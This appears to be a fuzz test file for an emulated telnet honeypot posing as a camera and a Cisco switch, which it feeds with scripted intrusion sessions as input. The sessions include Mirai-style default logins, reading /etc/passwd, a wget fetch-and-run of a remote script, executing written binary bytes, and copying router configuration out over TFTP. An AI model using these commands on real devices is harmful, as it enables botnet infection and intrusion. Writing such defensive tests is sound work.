import {describe} from 'vitest'

import {besieged} from '../../../support/abuse.ts'
import {abuseStream} from '../../../support/abuse-stream.ts'
import {CAMERA, CISCO, OPTIONS, REFUSES, REFUSES_ECHO, telnetService} from './support.ts'

const typed = (...lines: string[]): Buffer => Buffer.from(lines.map((line) => `${line}\r\0`).join(''), 'latin1')
/** What telnet(1) of inetutils says of itself: its speed, its variables, its terminal, the size of its window. */
const AGREES = Buffer.from('fffb18fffb20fffc23fffb27', 'hex')
const VALUES = Buffer.from(
  'fffa200033383430302c3338343030fff0fffa2700fff0fffa180058544552 4dfff0fffa1f0084002bfff0'.replaceAll(' ', ''),
  'hex',
)
const ACCEPTS = Buffer.from('fffd03fffb01fffb1ffffe05fffb21fffd01', 'hex')

abuseStream({
  name: 'telnet',
  port: 23,
  service: () => telnetService(OPTIONS),
  dialogues: [
    [
      REFUSES,
      REFUSES_ECHO,
      typed('root', 'wrong', 'root', 'xc3511'),
      typed('id; uname -a; cat /etc/passwd | grep root > /tmp/x', 'for i in 1 2 3; do echo "$i $HOME"; done'),
      typed('wget http://10.0.0.1/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh; sh /tmp/x.sh', 'ls -la /; ps aux; exit'),
    ],
    [
      AGREES,
      VALUES,
      ACCEPTS,
      typed('admin', 'cisco', 'cat <<E >x', 'a', 'E', 'sh -c "echo \\\\x41"', "awk '{print $1}'"),
    ],
    [
      REFUSES,
      REFUSES_ECHO,
      Buffer.from('ro\x08\x08root\r\nxc3511\r\nec\tho\x1b[A\x1b[D \x15\x17history\r\n\x04', 'latin1'),
    ],
    [Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n')],
  ],
  inputs: 30_000,
})

abuseStream({
  name: 'telnet as a camera',
  port: 23,
  service: () => telnetService(OPTIONS, CAMERA),
  dialogues: [
    [
      Buffer.from('fffc01fffb1ffffd01fffd03fffa1f0050 0018fff0'.replaceAll(' ', ''), 'hex'),
      typed('root', 'xc3511', 'enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI'),
      typed('cat /proc/mounts; /bin/busybox cat /bin/echo', 'echo -ne "\\x7f\\x45" > f; ./f; rm f'),
    ],
  ],
  inputs: 3000,
})

abuseStream({
  name: 'telnet as a switch',
  port: 23,
  service: () => telnetService(OPTIONS, CISCO),
  dialogues: [
    [
      typed('admin', 'wrong', 'admin', 'cisco'),
      typed('show version', 'enable', 'guess', 'Core-2024', 'show running-config', 'ping 10.0.0.1'),
      typed(
        'configure terminal',
        'interface Vlan1',
        'ip address 10.0.0.9 255.255.255.0',
        'end',
        'copy run tftp',
        'exit',
      ),
    ],
    [typed('', '', 'x'.repeat(300)), Buffer.from('x\x1a?\t\x03', 'latin1')],
  ],
  inputs: 30_000,
})

describe('telnet under siege', () => {
  besieged({
    name: 'telnet',
    port: 23,
    service: () => telnetService(OPTIONS, CISCO),
    served: (reply) => reply.includes('User Access Verification'),
  })
})
